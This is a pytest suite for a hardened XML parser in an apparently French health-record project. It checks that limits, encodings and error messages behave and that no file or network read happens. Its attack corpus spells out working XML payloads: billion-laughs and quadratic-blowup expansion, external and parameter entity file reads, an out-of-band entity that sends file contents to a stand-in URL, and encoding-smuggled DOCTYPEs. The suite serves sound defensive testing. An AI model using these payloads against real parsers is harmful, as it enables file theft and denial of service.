"""facade.xmldoc: the one inbound XML parser, against an attack corpus (defusedxml / signxml style).

"Never a file read" is observed, not assumed: the secret file is watched with Linux inotify (IN_OPEN | IN_ACCESS)
and a local TCP listener records any connection; a positive control proves the watcher sees a real read.
"""

from __future__ import annotations

import base64
import ctypes
import errno
import os
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from facade import xmldoc
from facade.cda.render import DEFAULT_TEMPLATES_DIR, CdaRenderer
from facade.cda.validation import XmlSchema
from facade.errors import DeliveryError, Problem, RequestError, SecurityError
from facade.model.document import NonXmlBody
from facade.simulator import soap12
from facade.soap import envelope, vihf_verify, xades, xades_verify
from facade.terminology.build_tables import read_svs_value_set
from tests.cda.model_samples import n1_document

SECRET = "TOP-SECRET-7f3a"  # written into the watched file: must never show up anywhere

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="inotify file-read watch is Linux-only")


# ------------------------------------------------------------------------------------------------ observers


class FileWatch:
    """inotify on some files: did anyone open or read one of them since the last check?"""

    IN_ACCESS, IN_OPEN = 0x1, 0x20

    def __init__(self, *paths: Path) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        self._fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if self._fd < 0:
            raise OSError(ctypes.get_errno(), "inotify_init1")
        for path in paths:
            if libc.inotify_add_watch(self._fd, str(path).encode(), self.IN_OPEN | self.IN_ACCESS) < 0:
                raise OSError(ctypes.get_errno(), "inotify_add_watch")

    def touched(self) -> bool:
        try:
            return bool(os.read(self._fd, 4096))
        except BlockingIOError:
            return False
        except OSError as exc:  # pragma: no cover - EAGAIN spelled differently
            if exc.errno == errno.EAGAIN:
                return False
            raise

    def close(self) -> None:
        os.close(self._fd)


class Listener:
    """A local TCP port that records every connection (an external DTD/entity fetched over HTTP would land here)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()  # the fetch fails at once instead of hanging the test

    def close(self) -> None:
        self._stop = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)  # wakes the blocked accept() (close() alone does not, on Linux)
        except OSError:
            pass
        self.sock.close()
        self._thread.join(timeout=5)
        assert not self._thread.is_alive()


@dataclass
class Target:
    secret: Path  # its directory also holds evil.dtd, which declares an entity reading the secret
    watch: FileWatch
    listener: Listener

    @property
    def file_url(self) -> str:
        return self.secret.as_uri()

    @property
    def http_url(self) -> str:
        return f"http://127.0.0.1:{self.listener.port}/evil.dtd"

    def attacks(self) -> dict[str, bytes]:
        return corpus(self.secret, self.http_url)

    def assert_untouched(self, *outputs: object) -> None:
        assert not self.watch.touched(), "the secret file was opened"
        assert self.listener.connections == 0, "a network fetch was attempted"
        for out in outputs:
            assert SECRET not in repr(out)


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Target]:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET + "\n")
    evil_dtd = tmp_path / "evil.dtd"
    evil_dtd.write_text(f'<!ENTITY leak SYSTEM "{secret.as_uri()}">')
    watch, listener = FileWatch(secret, evil_dtd), Listener()
    assert not watch.touched()
    yield Target(secret, watch, listener)
    watch.close()
    listener.close()


def test_the_file_watch_sees_a_real_read(target: Target) -> None:
    """Positive control: without it, the 'never a file read' assertions below could pass vacuously."""
    assert SECRET in target.secret.read_text()
    assert target.watch.touched()
    assert not target.watch.touched()  # drained


# ------------------------------------------------------------------------------------------------ attack corpus


def corpus(secret: Path, http_url: str) -> dict[str, bytes]:
    file_url, evil_dtd = secret.as_uri(), (secret.parent / "evil.dtd").as_uri()
    lol = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    return {
        "billion laughs": f'<?xml version="1.0"?><!DOCTYPE lolz [{lol}]><lolz>&lol9;</lolz>'.encode(),
        "quadratic blowup": ('<!DOCTYPE q [<!ENTITY a "' + "x" * 50_000 + '">]><q>' + "&a;" * 5_000 + "</q>").encode(),
        "external entity (file)": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{file_url}">]><x>&e;</x>'.encode(),
        "external entity (http)": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{http_url}">]><x>&e;</x>'.encode(),
        "external entity in attribute default": (
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "{file_url}"><!ATTLIST x a CDATA "&e;">]><x/>'
        ).encode(),
        "external DTD (file)": f'<!DOCTYPE x SYSTEM "{evil_dtd}"><x>&leak;</x>'.encode(),
        "external DTD (http)": f'<!DOCTYPE x PUBLIC "-//EVIL//DTD" "{http_url}"><x/>'.encode(),
        "external DTD, no reference": f'<!DOCTYPE x SYSTEM "{file_url}"><x/>'.encode(),
        "internal DTD, empty": b"<!DOCTYPE x []><x/>",
        "internal DTD, bare": b"<!DOCTYPE x><x/>",
        "internal DTD, default attribute": b'<!DOCTYPE x [<!ATTLIST x admin CDATA "true">]><x/>',
        "parameter entity (file)": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{file_url}">%p;]><x/>'.encode(),
        "parameter entity (external DTD)": f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{evil_dtd}">%d;]><x>&leak;</x>'.encode(),
        "parameter entity, out of band": (
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{file_url}">'
            f"<!ENTITY % w \"<!ENTITY &#x25; s SYSTEM '{http_url}?%f;'>\">%w;%s;]><x/>"
        ).encode(),
        "UTF-16 DOCTYPE (no byte search finds it)": (
            f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "{file_url}">]><x>&e;</x>'
        ).encode("utf-16"),
        "UTF-8 BOM then DOCTYPE": b"\xef\xbb\xbf" + f'<!DOCTYPE x SYSTEM "{file_url}"><x/>'.encode(),
        "UTF-7 smuggled DOCTYPE": (
            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY e SYSTEM +ACI-'
            + file_url.encode()
            + b"+ACI-+AD4-+AF0-+AD4-+ADw-x+AD4-+ACY-e+ADs-+ADw-/x+AD4-"
        ),
        "undeclared entity": b"<x>&e;</x>",
        "DOCTYPE after the root": b"<x/><!DOCTYPE x []>",
    }


UNSAFE_ONLY = {  # every case but these is refused as UnsafeXmlError; these are refused either way
    "UTF-7 smuggled DOCTYPE",  # refused as unsafe if libxml2 decodes UTF-7, as malformed if it cannot
    "DOCTYPE after the root",  # not well-formed: a DOCTYPE may only precede the root
}


@pytest.mark.parametrize("name", sorted(corpus(Path("/x/secret"), "http://x/")))
@pytest.mark.parametrize("large_text", [False, True])
def test_attack_is_refused_and_reads_nothing(name: str, large_text: bool, target: Target) -> None:
    data = target.attacks()[name]
    with pytest.raises(xmldoc.XmlError) as err:
        xmldoc.parse(data, large_text=large_text)
    if name not in UNSAFE_ONLY:
        assert isinstance(err.value, xmldoc.UnsafeXmlError)
    assert isinstance(err.value, ValueError)
    target.assert_untouched(err.value, err.value.reason)


def test_doctype_reason_says_what_was_refused(target: Target) -> None:
    with pytest.raises(xmldoc.UnsafeXmlError) as err:
        xmldoc.parse(target.attacks()["billion laughs"])
    assert "DOCTYPE" in err.value.reason and "lol" not in str(err.value)


def test_xinclude_is_not_processed(target: Target) -> None:
    xml = f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{target.file_url}" parse="text"/></x>'
    root = xmldoc.parse(xml.encode())
    assert root[0].tag == "{http://www.w3.org/2001/XInclude}include" and root[0].get("href") == target.file_url
    target.assert_untouched(etree.tostring(root))


def test_the_parser_factory_never_loads_a_dtd_even_for_files(target: Target) -> None:
    """parser() serves trusted local files (kit schemas): it tolerates a DOCTYPE but loads and resolves nothing."""
    folder = target.secret.parent
    (folder / "external.xml").write_text('<!DOCTYPE x SYSTEM "evil.dtd"><x>&leak;</x>')  # evil.dtd sits beside it
    (folder / "internal.xml").write_text(f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target.file_url}">]><x>&e;</x>')
    for name in ("external.xml", "internal.xml"):
        root = etree.parse(str(folder / name), xmldoc.parser()).getroot()
        assert isinstance(root[0], etree._Entity)  # kept as a reference, never substituted
        target.assert_untouched(etree.tostring(root))


# ------------------------------------------------------------------------------------------------ limits


def test_nesting_deeper_than_256_is_refused_in_both_modes() -> None:
    ok, deep = b"<a>" * 256 + b"</a>" * 256, b"<a>" * 257 + b"</a>" * 257
    for large_text in (False, True):
        assert xmldoc.parse(ok, large_text=large_text).tag == "a"
        with pytest.raises(xmldoc.XmlLimitError):
            xmldoc.parse(deep, large_text=large_text)
    with pytest.raises(xmldoc.XmlLimitError, match="256"):
        xmldoc.parse(b"<a>" * 100_000 + b"</a>" * 100_000, large_text=True)


def test_a_huge_text_node_needs_large_text() -> None:
    data = b"<a>" + b"QUJD" * 3_000_000 + b"</a>"  # 12 MB, over libxml2's 10 MB text-node limit
    with pytest.raises(xmldoc.XmlLimitError) as err:
        xmldoc.parse(data)
    assert "QUJD" not in str(err.value) and isinstance(err.value, xmldoc.MalformedXmlError)
    assert len(xmldoc.parse(data, large_text=True).text or "") == 12_000_000


def test_a_huge_attribute_value_is_refused_by_default() -> None:
    with pytest.raises(xmldoc.XmlLimitError):
        xmldoc.parse(b'<a b="' + b"x" * 10_000_001 + b'"/>')


def _attributes(n: int) -> str:
    return " ".join(f'a{i}="x"' for i in range(n))


def _prefixes(n: int, start: int = 0) -> str:
    return " ".join(f'xmlns:p{i}="urn:x:{i}"' for i in range(start, start + n))


@pytest.mark.parametrize("large_text", [False, True])
def test_attributes_per_element_are_bounded(large_text: bool) -> None:
    """C14N sorts an element's attributes by insertion: 25k attributes on one element took 0.9 s, 100k 43 s."""
    ok = f"<r><c {_attributes(xmldoc.MAX_ATTRIBUTES)}/><c {_attributes(xmldoc.MAX_ATTRIBUTES)}/></r>"
    assert len(xmldoc.parse(ok.encode(), large_text=large_text)[1].attrib) == xmldoc.MAX_ATTRIBUTES
    for n in (xmldoc.MAX_ATTRIBUTES + 1, 25_000):
        with pytest.raises(xmldoc.XmlLimitError, match=f"{n} attributes; the limit is 64 per element") as err:
            xmldoc.parse(f"<r>\n<c/>\n<c {_attributes(n)}/></r>".encode(), large_text=large_text)
        assert err.value.line == 3


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(f"<r {_prefixes(50_000)}/>", id="50k xmlns on one element"),
        pytest.param(f"<r {_prefixes(33)}/>", id="33 on one element"),
        pytest.param("<r>" + "".join(f"<c {_prefixes(1, i)}/>" for i in range(33)) + "</r>", id="33 spread out"),
        pytest.param("<r " + _prefixes(20) + "><c " + _prefixes(13, 20) + "/></r>", id="33 in scope"),
    ],
)
def test_namespace_prefixes_per_document_are_bounded(document: str) -> None:
    """C14N re-checks every namespace in scope at every element (cost ∝ elements × namespaces²): bounding the
    prefixes of the whole document bounds both the declarations per element and those in scope."""
    with pytest.raises(xmldoc.XmlLimitError, match="more than 32 namespace prefixes"):
        xmldoc.parse(document.encode(), large_text=True)


def test_namespace_prefixes_are_counted_whatever_the_encoding() -> None:
    """UTF-16 does not spell ``xmlns`` as ASCII bytes: the byte count shortcut must not let it through."""
    with pytest.raises(xmldoc.XmlLimitError, match="namespace prefixes"):
        xmldoc.parse(f"<r {_prefixes(40)}/>".encode("utf-16"))
    with pytest.raises(xmldoc.XmlLimitError, match="namespace prefixes"):
        xmldoc.parse(f'<?xml version="1.0" encoding="UTF-16"?><r {_prefixes(40)}/>'.encode("utf-16"))


def test_redeclaring_the_same_prefixes_is_not_limited() -> None:
    """A sender may declare the default namespace on every element: one prefix, however often."""
    many = "<r>" + '<c xmlns="urn:hl7-org:v3" xmlns:xsi="urn:xsi"/>' * 5_000 + "</r>"
    assert len(xmldoc.parse(many.encode())) == 5_000
    assert len(xmldoc.parse(f"<r {_prefixes(32)}/>".encode("utf-16")).nsmap) == 32


def test_the_element_count_is_bounded() -> None:
    assert len(xmldoc.parse(b"<r>" + b"<c/>" * (xmldoc.MAX_ELEMENTS - 1) + b"</r>")) == xmldoc.MAX_ELEMENTS - 1
    with pytest.raises(xmldoc.XmlLimitError, match="100001 elements; the limit is 100000"):
        xmldoc.parse(b"<r>" + b"<c/>" * xmldoc.MAX_ELEMENTS + b"</r>", large_text=True)


def test_a_10_mib_pdf_wrapped_as_n1_renders_and_is_canonicalised() -> None:
    """The N1 base64 text node (14 MB for the 10 MiB max_document_bytes) used to fail the re-parse."""
    pdf = b"%PDF-1.4\n" + os.urandom(10 * 1024 * 1024 - 9)
    cda = CdaRenderer(DEFAULT_TEMPLATES_DIR).render(n1_document(body=NonXmlBody("application/pdf", pdf)))
    with pytest.raises(xmldoc.XmlLimitError):
        xmldoc.parse(cda)
    text = xmldoc.parse(cda, large_text=True).findtext(".//{urn:hl7-org:v3}nonXMLBody/{urn:hl7-org:v3}text")
    assert base64.b64decode("".join((text or "").split())) == pdf
    assert len(xades.canonical_document(cda)) > 13_000_000


# ------------------------------------------------------------------------------------------------ encodings


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ('<?xml version="1.0" encoding="ISO-8859-1"?><a>Hélène</a>'.encode("latin-1"), "Hélène"),
        ('<?xml version="1.0" encoding="windows-1252"?><a>€ œ</a>'.encode("cp1252"), "€ œ"),
        ('<?xml version="1.0" encoding="UTF-16"?><a>Zoé</a>'.encode("utf-16"), "Zoé"),  # BOM included
        ('<?xml version="1.0" encoding="UTF-16"?><a>Zoé</a>'.encode("utf-16-be"), "Zoé"),  # no BOM: detected
        (b"\xef\xbb\xbf<a>Zo\xc3\xa9</a>", "Zoé"),  # UTF-8 BOM
        (b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?><a>Zo\xc3\xa9</a>", "Zoé"),
        (b"<a>Zo\xc3\xa9</a>", "Zoé"),
    ],
)
def test_declared_encodings_are_decoded(data: bytes, expected: str) -> None:
    assert xmldoc.parse(data).text == expected


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="x-no-such-charset"?><a/>',
        b"<a>Zo\xe9 DUPONT</a>",  # Latin-1 bytes declared (by default) as UTF-8
        b'<?xml version="1.0" encoding="UTF-16"?><a/>',  # declared UTF-16, actually ASCII
        b"\xff\xfe<\x00a\x00",  # truncated UTF-16
    ],
)
def test_undecodable_input_is_malformed(data: bytes) -> None:
    with pytest.raises(xmldoc.MalformedXmlError) as err:
        xmldoc.parse(data)
    assert "DUPONT" not in str(err.value)


# ------------------------------------------------------------------------------------------------ errors


@pytest.mark.parametrize(
    "data",
    [
        b"<a>DUPONT Jean<b></a>",
        b"<a>DUPONT\x01</a>",
        b"<a b=DUPONT/>",
        b"<a/>DUPONT",
        b'<a b="DUPONT<"/>',
        b"<a>DUPONT]]></a>",
        b"<a><!-- DUPONT -- Jean --></a>",
        b"<a><!-- DUPONT Jean </a>",
        b'<a b="DUPONT" b="x"/>',
        b"",
        b"   ",
        b"not xml DUPONT",
    ],
)
def test_malformed_errors_never_carry_the_document_text(data: bytes) -> None:
    with pytest.raises(xmldoc.MalformedXmlError) as err:
        xmldoc.parse(data)
    assert "DUPONT" not in str(err.value) and "DUPONT" not in err.value.reason
    assert err.value.reason and err.value.__cause__ is None and err.value.__suppress_context__


def test_error_carries_line_and_column() -> None:
    with pytest.raises(xmldoc.MalformedXmlError) as err:
        xmldoc.parse(b"<a>\n<b>\n</a>")
    assert (err.value.line, err.value.reason) == (3, "Opening and ending tag mismatch: b line 2 and a")
    assert err.value.column and str(err.value).endswith(f"(line 3, column {err.value.column})")


def test_only_bytes_are_accepted() -> None:
    with pytest.raises(TypeError):
        xmldoc.parse("<a/>")  # type: ignore[arg-type]


def test_comments_pis_and_cdata_survive_for_c14n() -> None:
    root = xmldoc.parse(b"<a><!-- kept --><?pi data?><![CDATA[<x>]]></a>")
    assert etree.tostring(root, method="c14n", with_comments=True) == b"<a><!-- kept --><?pi data?>&lt;x&gt;</a>"


_PIECES = st.sampled_from(
    [b"<a>", b"</a>", b"<b x='1'>", b"</b>", b"<!DOCTYPE a [", b"]>", b'<!ENTITY e "v">', b"&e;", b"&amp;",
     b"<!--", b"-->", b"<![CDATA[", b"]]>", b"<?xml version='1.0'?>", b"\xef\xbb\xbf", b"\x00", b"\xe9", b"text"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.binary(max_size=8)), max_size=12))
def test_any_input_parses_or_raises_an_xml_error(pieces: list[bytes]) -> None:
    data = b"".join(pieces)
    try:
        root = xmldoc.parse(data)
    except xmldoc.XmlError as exc:  # nothing else escapes (no lxml exception, no crash)
        assert isinstance(exc, (xmldoc.UnsafeXmlError, xmldoc.MalformedXmlError)) and exc.reason
        return
    docinfo = root.getroottree().docinfo
    assert not docinfo.doctype and docinfo.internalDTD is None and docinfo.externalDTD is None
    assert next(root.iter(etree.Entity), None) is None


# ------------------------------------------------------------------------------------------------ every caller

NOW = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)


def _tiny_schema() -> XmlSchema:
    xsd = b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="x"/></xs:schema>'
    return XmlSchema(etree.XMLSchema(etree.fromstring(xsd)), "tiny.xsd")


def _callers(tmp: Path) -> dict[str, Callable[[bytes], object]]:
    ca = tmp / "no-ca.pem"

    def svs(data: bytes) -> object:
        path = tmp / "vs.xml"
        path.write_bytes(data)
        return read_svs_value_set(path)

    return {
        "cda passthrough": lambda d: CdaRenderer(DEFAULT_TEMPLATES_DIR).render(replace(n1_document(), passthrough=d)),
        "DMP answer": lambda d: envelope.parse_response("application/soap+xml", d),
        "VIHF": lambda d: vihf_verify.verify_vihf(d, ca_pem_file=ca, now=NOW),
        "lot signature": lambda d: xades_verify.verify_lot_signature(
            d, {}, ca_pem_file=ca, submission_unique_id="1.2.3"
        ),
        "lot document": lambda d: xades.document_digest(d),
        "simulator": lambda d: soap12.parse_xml(d, "La partie SOAP"),
        "value set file": svs,
    }


EXPECTED_REFUSAL: dict[str, Callable[[BaseException], bool]] = {
    "cda passthrough": lambda e: isinstance(e, RequestError) and e.problem is Problem.XML_FORBIDDEN_CONSTRUCT,
    "DMP answer": lambda e: isinstance(e, DeliveryError) and e.problem is Problem.SOAP_RESPONSE_INVALID,
    "VIHF": lambda e: isinstance(e, SecurityError) and e.problem is Problem.XML_FORBIDDEN_CONSTRUCT,
    "lot signature": lambda e: isinstance(e, SecurityError) and e.problem is Problem.XML_FORBIDDEN_CONSTRUCT,
    "lot document": lambda e: isinstance(e, SecurityError) and e.problem is Problem.XML_FORBIDDEN_CONSTRUCT,
    "simulator": lambda e: isinstance(e, soap12.SoapFault) and e.code == "Sender" and "DOCTYPE" in e.reason,
    "value set file": lambda e: isinstance(e, xmldoc.UnsafeXmlError),
}


@pytest.mark.parametrize("caller", sorted(EXPECTED_REFUSAL))
@pytest.mark.parametrize("attack", ["billion laughs", "external entity (file)", "parameter entity (file)"])
def test_every_caller_refuses_the_attacks_with_its_own_problem(
    caller: str, attack: str, target: Target, tmp_path: Path
) -> None:
    with pytest.raises(Exception) as err:  # noqa: PT011 - the expected type differs per caller, checked below
        _callers(tmp_path)[caller](target.attacks()[attack])
    assert EXPECTED_REFUSAL[caller](err.value), repr(err.value)
    target.assert_untouched(err.value)


def test_callers_map_malformed_xml_to_their_problem(tmp_path: Path) -> None:
    bad = b"<x><y></x>"
    callers = _callers(tmp_path)
    with pytest.raises(RequestError) as cda:
        callers["cda passthrough"](bad)
    assert cda.value.problem is Problem.CDA_INPUT_INVALID
    with pytest.raises(SecurityError) as vihf:
        callers["VIHF"](bad)
    assert vihf.value.problem is Problem.SIGNATURE_INVALID
    with pytest.raises(SecurityError) as doc:
        callers["lot document"](bad)
    assert doc.value.problem is Problem.SIGNING_FAILED
    with pytest.raises(soap12.SoapFault, match="bien formé"):
        callers["simulator"](bad)
    with pytest.raises(RequestError) as crowded:
        callers["cda passthrough"](b"<x " + _attributes(1000).encode() + b"/>")
    assert crowded.value.problem is Problem.XML_LIMIT and "the limit is 64" in str(crowded.value)
    assert soap12.best_effort_message_id(bad) is None
    (issue,) = _tiny_schema().issues(bad, "bad.xml")
    assert issue.problem is Problem.OUTPUT_XSD and issue.details["line"] == 1
    (dtd,) = _tiny_schema().issues(b"<!DOCTYPE x []><x/>", "dtd.xml")
    assert "DOCTYPE" in dtd.message


@pytest.mark.parametrize("large_text", [False, True])
@pytest.mark.parametrize("name", sorted(corpus(Path("/x/secret"), "http://x/")))
def test_parse_own_has_no_probe_yet_refuses_every_attack_and_reads_nothing(
    name: str, large_text: bool, target: Target
) -> None:
    """``parse_own`` (the outbox's own SubmitObjectsRequest, re-read per attempt; a rendered CDA) skips the prolog
    probe and the size bounds, not the hardened parser nor the DOCTYPE / entity refusal: were such bytes ever
    stored or rendered, nothing is read."""
    with pytest.raises(xmldoc.XmlError) as err:
        xmldoc.parse_own(target.attacks()[name], large_text=large_text)
    target.assert_untouched(err.value, err.value.reason)


@pytest.mark.parametrize("large_text", [False, True])
def test_parse_own_reads_what_parse_reads(large_text: bool) -> None:
    data = b'<?xml version="1.0" encoding="UTF-8"?><a xmlns="urn:x"><!-- c --><b n="1">t\xc3\xa9</b></a>'
    own = xmldoc.parse_own(data, large_text=large_text)
    assert etree.tostring(own, method="c14n") == etree.tostring(xmldoc.parse(data), method="c14n")


def test_parse_own_large_text_keeps_the_depth_limit_and_lifts_the_text_limit() -> None:
    deep = b"<a>" * (xmldoc.MAX_DEPTH + 1) + b"</a>" * (xmldoc.MAX_DEPTH + 1)
    with pytest.raises(xmldoc.XmlLimitError, match="nested deeper than 256"):
        xmldoc.parse_own(deep, large_text=True)
    big = b"<a>" + b"x" * 12_000_000 + b"</a>"
    assert len(xmldoc.parse_own(big, large_text=True).text or "") == 12_000_000
